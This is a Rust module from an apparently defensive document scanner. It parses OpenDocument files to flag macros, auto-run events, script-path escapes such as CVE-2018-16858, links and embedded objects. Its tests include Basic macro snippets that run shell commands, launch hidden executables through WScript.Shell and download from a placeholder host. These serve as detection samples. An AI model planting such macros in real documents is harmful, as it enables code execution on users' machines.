//! OpenDocument: what LibreOffice and OpenOffice write (\[ODF\] part 3, packages; part 2 of version 1.2, content).
//!
//! Macros are plain text in parts of their own (Basic, Python, BeanShell, JavaScript), and events in the content start
//! them: loading the document, passing over a button. LibreOffice asks before it runs them, once. Links in the content
//! fetch other documents, and objects of Windows are embedded as compound files.

use std::collections::HashMap;
use std::rc::Rc;

use super::xml::Root;
use super::xml_walk::{Kept, Piece, attribute, decode, is_true, walk};
use super::zip::Package;
use super::{Format, Reading};
use crate::artifact::{Class, Origin};
use crate::error::{Error, Result};
use crate::finding::{Evidence, FindingKind, Level, Observation};
use crate::formats::ovba;
use crate::languages::Language;
use crate::languages::vba::{self, Module, ModuleKind};
use crate::scan::{Child, Content as Bytes, Scan};
use crate::source::Source;
use crate::view::{self, View};

mod content;
mod locked;
mod scripts;

use content::Content;
use locked::{Locked, Part};
use scripts::Call;

/// Scripts other than Basic: whatever they do is not followed here.
pub(crate) const SCRIPT: FindingKind = FindingKind::new("odf.script", Level::Hold, Some("M2"));
pub(crate) const SCRIPT_RUNS: FindingKind = FindingKind::new("odf.script-auto-run-acts", Level::Stop, Some("M3"));
/// An event that starts a script of the machine instead of the document's own.
pub(crate) const OUTSIDE: FindingKind = FindingKind::new("odf.outside-script", Level::Hold, Some("M2"));
/// CVE-2018-16858 and its kin: a path out of the folder of scripts, or a script that runs what it is given.
pub(crate) const ESCAPE: FindingKind = FindingKind::new("odf.script-escape", Level::Stop, Some("M3"));

pub(super) const KINDS: &[&FindingKind] = &[&SCRIPT, &SCRIPT_RUNS, &OUTSIDE, &ESCAPE];

pub(super) const FORMATS: &[Format] = &[
    Format::new(
        "opendocument",
        Class::Document,
        &["odt", "ods", "odp", "odg", "odf", "ott", "ots", "otp", "odb", "otg", "odm", "oth", "sxw", "sxc", "sxi"],
    )
    .reading(Reading::ByKind),
    Format::new("flat-odf", Class::Document, &["fodt", "fods", "fodp", "fodg"])
        .probe(|p| p.root().is_some_and(is_flat))
        .reading(Reading::With(inspect_flat)),
];

pub(super) fn is_flat(root: &Root) -> bool {
    root.is("document") && root.holds("opendocument:xmlns:office")
}

/// Parts whose meaning is known and that hold nothing alive.
const KNOWN: &[&str] = &["mimetype", "manifest.rdf", "layout-cache", "current.xml"];

/// Reads a package; the caller has seen its `mimetype`.
pub(super) fn inspect(scan: &mut Scan, package: &Package<'_>) -> Result<()> {
    let mut document = Document::default();
    let mut locked = Locked::read(scan, package)?;
    let mut is_database = false;
    for (index, name, key) in package.parts() {
        if key.ends_with('/') || KNOWN.contains(&key) || key.starts_with("meta-inf/") && key.ends_with(".xml") {
            continue;
        }
        is_database |= key.starts_with("database/");
        let unlocked = match locked.part(scan, package, (index, key)) {
            Part::Clear => None,
            Part::Open(source) => Some(source),
            Part::Closed => continue,
        };
        if !key.ends_with(".xml") && !own_key(key).starts_with("scripts/") {
            let content = match unlocked {
                Some(source) => Bytes::Bytes { source, crc32: None },
                None => package.content(index, scan),
            };
            if matches!(&content, Bytes::Bytes { source, .. } if source.len() == 0) {
                continue;
            }
            let path = name.to_owned();
            // The whole document in one part (LibreOffice 24.2) is that document.
            let file =
                if key == "encrypted-package" { scan.name() } else { name.rsplit('/').next().unwrap_or_default() };
            let file = file.to_owned();
            let folders = ["pictures/", "objectreplacements/", "media/", "thumbnails/", "fonts/", "meta-inf/"];
            let is_picture = folders.iter().any(|folder| key.starts_with(folder));
            // A document is an archive too: what acts by its name is told by it.
            let acts = super::by_extension(&super::extension(name)).is_some_and(Format::acts);
            let origin = if is_picture && !acts { Origin::Part { path } } else { Origin::Object { path } };
            scan.push(Child { name: file, origin, size: None, content })?;
            continue;
        }
        let source = match unlocked.map_or_else(|| package.open(index, scan), Ok) {
            Ok(source) => source,
            Err(error) => {
                scan.note(&error, Some(name));
                continue;
            }
        };
        let (bytes, error) = scan.budget.read_source(source);
        let result = document.part(scan, (name, key), &bytes);
        match error.map_or(result, Err) {
            Err(Error::Limit(limit)) => {
                document.show(scan)?;
                return Err(Error::Limit(limit));
            }
            Err(error) => scan.note(&error, Some(name)),
            Ok(()) => {}
        }
    }
    document.show(scan)?;
    if is_database {
        scan.note(&Error::Unsupported("opendocument"), Some("database"));
    }
    Ok(())
}

/// The whole document as one XML file.
pub(super) fn inspect_flat(scan: &mut Scan, source: &Source) -> Result<()> {
    let (bytes, error) = scan.budget.read_source(source.clone());
    let mut document = Document::default();
    let result = document.content(scan, "XML", &bytes);
    document.show(scan)?;
    error.map_or(result, Err)
}

/// What the parts of a document have said so far.
#[derive(Default)]
struct Document {
    modules: Vec<Module>,
    /// Path and text of scripts other than Basic.
    scripts: Vec<(String, String)>,
    /// What events start: where it is said, the call, whether it needs nobody.
    calls: Kept<(String, Call, bool)>,
    /// Modules kept only in their running form.
    sealed: Kept<String>,
    /// Libraries that stand elsewhere: where it is said, and where they are.
    linked: Kept<(String, String)>,
}

impl Document {
    /// Looks at a part of text by where it stands.
    fn part(&mut self, scan: &mut Scan, (name, key): (&str, &str), bytes: &[u8]) -> Result<()> {
        let file = key.rsplit('/').next().unwrap_or_default();
        let key = own_key(key);
        if key.starts_with("scripts/") {
            if !file.is_empty() && file != "parcel-descriptor.xml" {
                self.scripts.push((name.to_owned(), String::from_utf8_lossy(bytes).into_owned()));
            }
            return Ok(());
        }
        if file == "script-lb.xml" || file == "script-lc.xml" || file == "dialog-lc.xml" || file == "dialog-lb.xml" {
            return self.library(scan, name, bytes);
        }
        if key.starts_with("basic/") {
            // StarOffice 6 calls the list `script.xml`.
            let head = bytes.get(..bytes.len().min(1024)).unwrap_or_default();
            if decode(head).contains("<library:") {
                return self.library(scan, name, bytes);
            }
            return self.module(scan, name, bytes);
        }
        if !bytes.trim_ascii_start().starts_with(b"<") && !bytes.starts_with(b"\xEF\xBB\xBF") && bytes.len() > 2 {
            // Not what its name says: looked at like anything else.
            let content = Bytes::Bytes { source: Source::memory(bytes.to_vec()), crc32: None };
            let origin = Origin::Part { path: name.to_owned() };
            return scan.push(Child { name: file.to_owned(), origin, size: None, content });
        }
        self.content(scan, name, bytes)
    }

    /// The list of a library's modules. One that is protected keeps them as they run, without their text.
    fn library(&mut self, scan: &Scan, name: &str, bytes: &[u8]) -> Result<()> {
        let text = decode(bytes);
        let mut sealed = false;
        let (found, linked) = (&mut self.sealed, &mut self.linked);
        walk(&text, &scan.budget, |piece| {
            if let Piece::Start { name: tag, element, .. } = piece {
                match tag {
                    "library" => {
                        sealed = is_true(element, "passwordprotected");
                        let target = attribute(element, "href");
                        if !target.is_empty() {
                            linked.push((name.to_owned(), target));
                        }
                    }
                    "element" if sealed => {
                        found.push(format!("{name}/{}", attribute(element, "name")));
                    }
                    _ => {}
                }
            }
        })
    }

    /// A module of Basic: its text stands in the root.
    fn module(&mut self, scan: &Scan, path: &str, bytes: &[u8]) -> Result<()> {
        let text = decode(bytes);
        let mut module: Option<Module> = None;
        let result = walk(&text, &scan.budget, |piece| match piece {
            Piece::Start { name: "module", element, .. } => {
                let kind = module_kind(&attribute(element, "moduleType"));
                let name = attribute(element, "name");
                module = Some(Module { name, path: path.to_owned(), kind, source: String::new() });
            }
            Piece::Text(text) => {
                if let Some(module) = &mut module {
                    module.source.push_str(text);
                }
            }
            _ => {}
        });
        let is_module = module.is_some();
        self.modules.extend(module);
        result.and(if is_module { Ok(()) } else { Err(Error::malformed("XML", 0)) })
    }

    fn content(&mut self, scan: &mut Scan, part: &str, bytes: &[u8]) -> Result<()> {
        let text = decode(bytes);
        let budget = Rc::clone(&scan.budget);
        let (content, result) = Content::read(&text, &budget);
        if !content.text.trim().is_empty() {
            scan.show(&View::Text(view::Text { path: part, text: &content.text }));
        }
        for (kind, target) in content.links.iter() {
            scan.show(&View::Relationship(view::Relationship { part, kind, target }));
        }
        for (service, topic) in content.dde.iter() {
            scan.show(&View::Dde(view::Dde { path: part, service, topic }));
        }
        for (target, automatic) in content.connections.iter() {
            scan.show(&View::Connection(view::Connection { path: part, target, automatic: *automatic }));
        }
        for (target, hover) in content.presses.iter() {
            let how = if *hover { view::How::Hover } else { view::How::Press };
            scan.show(&View::Press(view::Press { path: part, target, how }));
        }
        // Nothing happens in a dialog before a macro has opened it.
        let dialog = own_key(&super::zip::part_key(part)).starts_with("dialogs/");
        for (call, automatic) in content.calls {
            self.calls.push((part.to_owned(), call, automatic && !dialog));
        }
        for (name, source) in content.modules {
            self.modules.push(Module { name, path: part.to_owned(), kind: ModuleKind::Standard, source });
        }
        self.scripts.extend(content.scripts.into_iter().map(|text| (part.to_owned(), text)));
        for (at, bytes) in content.binaries.into_iter().enumerate() {
            budget.expand(bytes.len() as u64)?;
            let name = format!("binary-data{}", at.saturating_add(1));
            let origin = Origin::Part { path: name.clone() };
            let content = Bytes::Bytes { source: Source::memory(bytes), crc32: None };
            scan.push(Child { name, origin, size: None, content })?;
        }
        result
    }

    /// Shows what all of it means together.
    fn show(self, scan: &mut Scan) -> Result<()> {
        for (part, target) in self.linked.iter() {
            scan.show(&View::Relationship(view::Relationship { part, kind: "vbaProject", target }));
        }
        for module in self.sealed.iter() {
            let name = module.rsplit('/').next().unwrap_or_default();
            let evidence = Evidence::quote("passwordprotected").path(module.as_str());
            scan.report(Observation::new(&ovba::SOURCE_MISSING, evidence).with("module", name));
        }
        self.show_scripts(scan);
        for (part, call, automatic) in self.calls.iter().filter(|(_, call, _)| !call.in_document) {
            let kind = match (call.escapes(), automatic) {
                (true, true) => &ESCAPE,
                (true, false) | (false, true) => &OUTSIDE,
                (false, false) => continue,
            };
            scan.report(
                Observation::new(kind, Evidence::quote(&call.url).path(part.as_str())).with("target", &call.url),
            );
        }
        let full = self.calls.check().and(self.sealed.check()).and(self.linked.check());
        if self.modules.is_empty() {
            return full;
        }
        let of_basic = |call: &Call| call.in_document && call.is_basic();
        let automatic = self.calls.iter().filter(|(_, call, automatic)| *automatic && of_basic(call));
        let starts = automatic.map(|(_, call, _)| call.procedure().to_owned()).collect();
        let project = vba::Project { modules: self.modules, starts, ..vba::Project::default() };
        let (mut behaviour, result) = vba::analyse(&project, &scan.surroundings(), &scan.budget);
        behaviour.language = Language::OpenDocument;
        scan.show_macros(behaviour, |to, artifact, marks| project.list(to, artifact, marks)).and(result).and(full)
    }

    fn show_scripts(&self, scan: &mut Scan) {
        let started: HashMap<String, &Call> = self
            .calls
            .iter()
            .filter(|(_, call, automatic)| *automatic && call.in_document && !call.is_basic())
            .map(|(_, call, _)| (call.file(), call))
            .collect();
        for (path, text) in &self.scripts {
            let file = path.rsplit('/').next().unwrap_or_default().to_lowercase();
            // Where the event names no file that is there, it may mean any.
            let named = started.keys().any(|name| *name == file);
            let is_started = named || started.keys().any(|name| !self.has_script(name));
            let act = scripts::acts(text).filter(|_| is_started);
            let kind = if act.is_some() { &SCRIPT_RUNS } else { &SCRIPT };
            let (line, quote) = act.unwrap_or_else(|| first_line(text));
            let evidence = Evidence::quote(&quote).path(path.as_str()).line(line);
            scan.report(Observation::new(kind, evidence).with("name", &file));
        }
    }

    fn has_script(&self, file: &str) -> bool {
        self.scripts.iter().any(|(path, _)| path.rsplit('/').next().is_some_and(|last| last.to_lowercase() == file))
    }
}

/// The key of a part as the document it belongs to names it: objects have folders of their own.
fn own_key(key: &str) -> &str {
    match key.split_once('/') {
        Some((folder, rest)) if folder.starts_with("object ") || folder.starts_with("obj") => rest,
        _ => key,
    }
}

fn module_kind(declared: &str) -> ModuleKind {
    match declared {
        "document" => ModuleKind::Document,
        "class" => ModuleKind::Class,
        "form" => ModuleKind::Form,
        _ => ModuleKind::Standard,
    }
}

fn first_line(text: &str) -> (u32, String) {
    let line = text.lines().enumerate().find(|(_, line)| !line.trim().is_empty() && !line.trim().starts_with('#'));
    line.map_or((1, String::new()), |(at, line)| {
        (u32::try_from(at.saturating_add(1)).unwrap_or(u32::MAX), line.trim().chars().take(120).collect())
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::budget::{Budget, Limits};
    use crate::languages::ActionKind;
    use crate::languages::surroundings::Surroundings;

    /// What a procedure of Basic does, and whether it is reached from `Go`.
    fn actions(body: &str) -> Vec<(ActionKind, bool)> {
        let source = format!("Sub Go\n{body}\nEnd Sub");
        let module = Module { name: "M".into(), path: "M".into(), kind: ModuleKind::Standard, source };
        let project = vba::Project { modules: vec![module], starts: vec!["go".into()], ..vba::Project::default() };
        let budget = Budget::new(Limits::default(), |_| ());
        let (behaviour, result) = vba::analyse(&project, &Surroundings::default(), &budget);
        result.unwrap();
        behaviour.actions.iter().map(|action| (action.kind, action.reached_by.is_some())).collect()
    }

    #[test]
    fn basic_of_libreoffice_acts() {
        use ActionKind::{Download, Hidden, Run, Write};
        for (body, kind) in [
            ("Shell(\"bash\", 1, \"-c 'echo'\")", Run),
            ("CreateUnoService(\"com.sun.star.system.SystemShellExecute\").execute(\"cmd\", \"/c echo\", 0)", Run),
            (
                "m = GetProcessServiceManager()\ns = m.createInstance(\"com.sun.star.system.SystemShellExecute\")\ns.execute(\"cmd\", \"\", 0)",
                Run,
            ),
            (
                "f = createUnoService(\"com.sun.star.bridge.oleautomation.Factory\")\nf.createInstance(\"WScript.Shell\").Run(\"x.exe\", 0, False)",
                Run,
            ),
            (
                "f = createUnoService(\"com.sun.star.ucb.SimpleFileAccess\")\nf.copy(\"http://a.example/x\", \"file:///tmp/x\")",
                Download,
            ),
            (
                "f = createUnoService(\"com.sun.star.ucb.SimpleFileAccess\")\nf.copy(\"file:///tmp/y\", \"file:///tmp/x\")",
                Write,
            ),
            ("createUnoService(name)", Hidden),
        ] {
            assert!(actions(body).contains(&(kind, true)), "{body}: {:?}", actions(body));
        }
    }

    #[test]
    fn everyday_basic_does_not() {
        for body in [
            "f = createUnoService(\"com.sun.star.sheet.FunctionAccess\")\nx = f.callFunction(\"SUM\", a)",
            "d = createUnoService(\"com.sun.star.frame.DispatchHelper\")\nd.executeDispatch(x, \".uno:Save\", \"\", 0, Array())",
            "o = StarDesktop.loadComponentFromURL(\"private:factory/scalc\", \"_blank\", 0, Array())",
            "s = ThisComponent.createInstance(\"com.sun.star.text.TextTable\")\ns.initialize(2, 2)",
            "f = createUnoService(\"com.sun.star.ucb.SimpleFileAccess\")\nIf f.exists(u) Then x = 1",
        ] {
            assert_eq!(actions(body), [], "{body}");
        }
    }

    #[test]
    fn parts_of_objects_are_the_objects_own() {
        assert_eq!(own_key("object 1/basic/standard/a.xml"), "basic/standard/a.xml");
        assert_eq!(own_key("basic/standard/a.xml"), "basic/standard/a.xml");
    }
}
